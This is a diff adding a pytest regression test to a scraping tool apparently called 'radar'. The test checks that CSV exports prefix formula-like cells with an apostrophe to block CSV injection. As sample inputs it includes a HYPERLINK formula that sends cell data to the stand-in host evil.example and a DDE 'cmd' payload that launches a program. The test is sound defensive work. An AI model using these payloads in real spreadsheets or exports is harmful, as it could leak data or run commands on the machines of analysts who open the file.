@@ -119,3 +119,45 @@ def test_export_round_trips_as_json_lines_and_csv(tagged, tmp_path):
     since, until = dates[len(dates) // 3], dates[2 * len(dates) // 3]
     ranged = jsonl(run_radar("export", "--since", since, "--until", until, "-w", path).stdout)
     assert ranged and all(since <= e["published"][:10] <= until for e in ranged)
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_shown_as_text(tagged, tmp_path):
+    """CSV injection (OWASP): a scraped title or text beginning = + - @ (or tab, CR) becomes
+    a live formula when an analyst opens the CSV. Every CSV the product writes prefixes such a
+    cell with an apostrophe; JSON Lines keep the text as it was scraped."""
+    import csv
+    import io
+    import shutil
+
+    import yaml
+
+    from store import open_db
+
+    shutil.copy(tagged["db_path"], tmp_path / "radar.db")
+    data = yaml.safe_load(tagged["watchlist"].read_text(encoding="utf-8"))
+    data.update(database=str(tmp_path / "radar.db"))
+    path = tmp_path / "watchlist.yaml"
+    path.write_text(yaml.safe_dump(data), encoding="utf-8")
+    title = '=HYPERLINK("http://evil.example/?"&A1,"Section 114 update")'
+    text = "@SUM(1+1) cmd|' /C calc'!A0 and the section 114 notice"
+    db = open_db(tmp_path / "radar.db")
+    with db.conn:
+        (item_id,) = db.execute("select id from items order by id limit 1").fetchone()
+        db.execute("update items set title = ?, text = ? where id = ?", [title, text, item_id])
+    db.close()
+
+    searched = run_radar("search", "HYPERLINK", "--csv", "-w", str(path)).stdout
+    (hit,) = [row for row in csv.DictReader(io.StringIO(searched)) if "HYPERLINK" in row["title"]]
+    assert hit["title"] == "'" + title
+
+    out = tmp_path / "items.csv"
+    run_radar("export", "--format", "csv", "-o", str(out), "-w", str(path))
+    with out.open(encoding="utf-8", newline="") as handle:
+        (row,) = [r for r in csv.DictReader(handle) if r["id"] == item_id]
+    assert (row["title"], row["text"]) == ("'" + title, "'" + text)
+    for value in row.values():
+        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
+
+    exported = jsonl(run_radar("export", "--format", "jsonl", "-w", str(path)).stdout)
+    (raw,) = [e for e in exported if e["id"] == item_id]
+    assert (raw["title"], raw["text"]) == (title, text)
